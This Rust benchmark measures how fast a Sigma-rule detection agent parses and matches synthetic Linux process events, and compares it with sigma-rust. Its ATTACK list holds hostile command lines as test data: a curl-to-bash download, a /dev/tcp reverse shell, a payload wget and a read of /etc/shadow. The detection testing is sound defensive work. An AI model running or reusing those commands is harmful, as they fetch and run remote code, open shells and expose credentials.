//! Detection throughput on one thread, as ratios measured in one run (`cargo xtask bench`
//! drives it; `cargo bench --bench detection` runs it alone).
//!
//! A seeded generator writes N process_creation events (realistic benign command lines, ~1 %
//! attack-like) in the replay line format. Measured, each as the median of alternating rounds:
//! the JSONL parse alone; detection with the SigmaHQ Linux rules; detection with the 1,183
//! scale rules added (Windows rules relabelled for Linux, to measure rule-count scaling); and
//! sigma-rust 0.7 (the design card's engine) on the same rules and events.
//! Detection runs with the default per-rule throttle on event time, as `aurora replay` does:
//! several scale rules (e.g. "Execution Of Non-Existing File") match every Linux event, and
//! without a throttle the figure would measure alert construction, not rule evaluation.
#[path = "../../tests/common/testdata.rs"]
mod testdata;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use aurora_agent::detect::{DetectConfig, Detector};
use aurora_agent::event::Event;
use aurora_agent::sources::replay::parse::parse_line;
use aurora_agent::stats::DetectStats;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, fast, good enough for picking templates.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[(self.next() % v.len() as u64) as usize]
    }
}

const BENIGN: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /var/log/nginx"),
    ("/usr/bin/grep", "grep -rn TODO src/module_{n}"),
    ("/usr/bin/git", "git status --porcelain"),
    ("/usr/bin/git", "git log --oneline -n {n}"),
    ("/usr/bin/python3.11", "python3 manage.py migrate --noinput"),
    ("/usr/bin/systemctl", "systemctl is-active nginx.service"),
    ("/usr/bin/cat", "cat /srv/app/config/settings_{n}.yaml"),
    ("/usr/bin/ps", "ps -eo pid,ppid,cmd"),
    ("/usr/bin/sed", "sed -n 1,{n}p /var/log/app.log"),
    ("/usr/bin/find", "find /srv/app -name *.pyc -mtime +{n}"),
    ("/usr/bin/tar", "tar czf /backup/srv-{n}.tar.gz /srv/data"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
    ("/usr/bin/docker", "docker ps --format {{.Names}}"),
    ("/usr/bin/make", "make -j2 all"),
    (
        "/usr/bin/gcc",
        "gcc -O2 -c src/file_{n}.c -o build/file_{n}.o",
    ),
    (
        "/usr/bin/ssh",
        "ssh -o BatchMode=yes deploy@10.1.2.{n} uptime",
    ),
    ("/usr/bin/rsync", "rsync -a /srv/www/ mirror:/srv/www/"),
    ("/usr/bin/du", "du -sh /home/user{n}"),
    (
        "/usr/bin/journalctl",
        "journalctl -u nginx --since -{n}min --no-pager",
    ),
    ("/usr/bin/node", "node /srv/api/server.js --port 30{n}"),
    ("/usr/bin/java", "java -Xmx512m -jar /opt/app/app.jar"),
    ("/usr/bin/sort", "sort -u /tmp/sessions_{n}.txt"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/apt-get", "apt-get -qq update"),
];

const ATTACK: &[(&str, &str)] = &[
    ("/usr/bin/base64", "base64 -d /tmp/.x{n}"),
    (
        "/usr/bin/bash",
        "bash -c curl -s http://203.0.113.{n}/i.sh | bash",
    ),
    (
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
    ),
    ("/usr/bin/chmod", "chmod +x /tmp/.cache{n}"),
    (
        "/usr/bin/python3.11",
        "python3 -c import pty;pty.spawn('/bin/bash')",
    ),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
    ("/usr/bin/wget", "wget -q http://203.0.113.{n}/x -O /tmp/x"),
];

const PARENTS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/sshd", "sshd: deploy@pts/0"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/python3.11", "python3 worker.py"),
];

fn generate(n: usize, seed: u64) -> Vec<String> {
    let mut r = Rng(seed);
    (0..n)
        .map(|i| {
            let (image, cmd) = if r.next().is_multiple_of(100) { *r.pick(ATTACK) } else { *r.pick(BENIGN) };
            let (pimage, pcmd) = *r.pick(PARENTS);
            let cmd = cmd.replace("{n}", &(r.next() % 250).to_string());
            let user = *r.pick(&["root", "deploy", "www-data"]);
            serde_json::json!({
                "EventID": 1,
                "UtcTime": format!("2026-01-01 00:{:02}:{:02}.{:03}", (i / 60000) % 60, (i / 1000) % 60, i % 1000),
                "ProcessGuid": format!("{{00000000-0000-0000-0000-{i:012x}}}"),
                "ProcessId": 10000 + i,
                "Image": image,
                "CommandLine": cmd,
                "CurrentDirectory": "/srv/app",
                "User": user,
                "LogonId": 1000,
                "ParentProcessId": 500 + (i % 50),
                "ParentImage": pimage,
                "ParentCommandLine": pcmd,
                "ParentUser": "root",
            })
            .to_string()
        })
        .collect()
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(|a, b| a.total_cmp(b));
    v[v.len() / 2]
}

fn detector(dirs: Vec<PathBuf>, map: Option<PathBuf>) -> Detector {
    // The production default: 1 alert/rule/s, burst 5, on event time (as replay runs it).
    let cfg = DetectConfig {
        rule_dirs: dirs,
        logsource_map: map,
        event_time_throttle: true,
        ..Default::default()
    };
    Detector::load(&cfg, Arc::new(DetectStats::default())).expect("rules load")
}

/// Events/s and alerts for one pass of `d` over `events`.
fn detect_pass(d: &mut Detector, events: &[Event]) -> (f64, usize) {
    let mut out = Vec::new();
    let mut alerts = 0;
    let t = Instant::now();
    for e in events {
        d.evaluate(e, &mut out);
        alerts += out.len();
        out.clear();
    }
    (events.len() as f64 / t.elapsed().as_secs_f64(), alerts)
}

fn arg(name: &str) -> Option<String> {
    let a: Vec<String> = std::env::args().collect();
    a.iter()
        .position(|x| x == name)
        .and_then(|i| a.get(i + 1).cloned())
}

fn main() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let n: usize = arg("--events")
        .and_then(|s| s.parse().ok())
        .unwrap_or(200_000);
    let rounds: usize = arg("--rounds").and_then(|s| s.parse().ok()).unwrap_or(3);
    let sigmahq = arg("--sigmahq")
        .map(PathBuf::from)
        .unwrap_or_else(|| testdata::require(testdata::Corpus::SigmaHq, &root));
    let scale = arg("--scale")
        .map(PathBuf::from)
        .unwrap_or_else(|| testdata::require(testdata::Corpus::SigmaHqScale, &root));
    let sr_events: usize = arg("--sigma-rust-events")
        .and_then(|s| s.parse().ok())
        .unwrap_or(20_000);

    let lines = generate(n, 0x5eed_a0a0);
    let bytes: usize = lines.iter().map(|l| l.len() + 1).sum();
    let events: Vec<Event> = lines
        .iter()
        .filter_map(|l| parse_line(l).ok().flatten())
        .collect();
    assert_eq!(events.len(), n);

    let tmp = tempfile::tempdir().unwrap();
    let map = tmp.path().join("scale-logsources.yml");
    // The scale set is Windows process_creation rules relabelled `product: linux`; the mapping
    // routes by category alone so the measurement does not depend on that label.
    std::fs::write(
        &map,
        "logsources:\n  - { category: process_creation, kind: process_creation }\n",
    )
    .unwrap();
    let mut base = detector(vec![sigmahq.clone()], None);
    let mut scaled = detector(vec![sigmahq.clone(), scale.clone()], Some(map));
    let (base_rules, scaled_rules) = (base.rule_count(), scaled.rule_count());
    let (mut parse_eps, mut base_eps, mut scaled_eps) = (vec![], vec![], vec![]);
    let (mut base_alerts, mut scaled_alerts) = (0, 0);
    for _ in 0..rounds {
        let t = Instant::now();
        let mut k = 0;
        for l in &lines {
            k += parse_line(l).ok().flatten().map_or(0, |e| e.fields.len());
        }
        std::hint::black_box(k);
        parse_eps.push(n as f64 / t.elapsed().as_secs_f64());
        // Alerts of the first round (later rounds replay the same event times: budgets spent).
        let (eps, a) = detect_pass(&mut base, &events);
        base_eps.push(eps);
        base_alerts = base_alerts.max(a);
        let (eps, a) = detect_pass(&mut scaled, &events);
        scaled_eps.push(eps);
        scaled_alerts = scaled_alerts.max(a);
    }

    // sigma-rust 0.7 on the same active process_creation rules and (a prefix of) the events.
    let mut sr_rules = Vec::new();
    for e in &base.entries {
        if matches!(e.status, aurora_agent::detect::rules::RuleStatus::Active { kind, .. } if kind == aurora_agent::event::EventKind::ProcessCreation)
        {
            if let Ok(r) = sigma_rust::rule_from_yaml(&std::fs::read_to_string(&e.path).unwrap()) {
                sr_rules.push(r);
            }
        }
    }
    let sr_events_v: Vec<sigma_rust::Event> = lines[..sr_events.min(n)]
        .iter()
        .map(|l| sigma_rust::event_from_json(l).unwrap())
        .collect();
    let mut sr_eps = vec![];
    let mut sr_matches = 0;
    for _ in 0..rounds {
        let t = Instant::now();
        let mut m = 0;
        for ev in &sr_events_v {
            m += sr_rules.iter().filter(|r| r.is_match(ev)).count();
        }
        sr_eps.push(sr_events_v.len() as f64 / t.elapsed().as_secs_f64());
        sr_matches = m;
    }
    // Our matches on the same prefix, for a like-for-like count.
    let mut unthrottled = Detector::load(
        &DetectConfig {
            rule_dirs: vec![sigmahq.clone()],
            throttle_rate: 0.0,
            ..Default::default()
        },
        Arc::new(DetectStats::default()),
    )
    .expect("rules load");
    let (_, our_prefix_alerts) = detect_pass(&mut unthrottled, &events[..sr_events_v.len()]);

    let (p, b, s, r) = (
        median(parse_eps),
        median(base_eps),
        median(scaled_eps),
        median(sr_eps),
    );
    let result = serde_json::json!({
        "events": n,
        "jsonl_bytes": bytes,
        "rounds": rounds,
        "parse_events_per_s": p.round(),
        "sigmahq_rules": base_rules,
        "sigmahq_events_per_s": b.round(),
        "sigmahq_alerts_after_throttle": base_alerts,
        "with_scale_rules": scaled_rules,
        "with_scale_events_per_s": s.round(),
        "with_scale_alerts_after_throttle": scaled_alerts,
        "scale_cost_pct": ((b / s - 1.0) * 100.0 * 10.0).round() / 10.0,
        "parse_plus_detect_events_per_s": (1.0 / (1.0 / p + 1.0 / b)).round(),
        "sigma_rust_rules": sr_rules.len(),
        "sigma_rust_events": sr_events_v.len(),
        "sigma_rust_events_per_s": r.round(),
        "sigma_rust_matches": sr_matches,
        "aurora_matches_same_events": our_prefix_alerts,
        "speedup_vs_sigma_rust": (b / r * 10.0).round() / 10.0,
    });
    println!("{}", serde_json::to_string_pretty(&result).unwrap());
    if let Some(out) = arg("--json-out") {
        std::fs::write(out, result.to_string()).unwrap();
    }
}
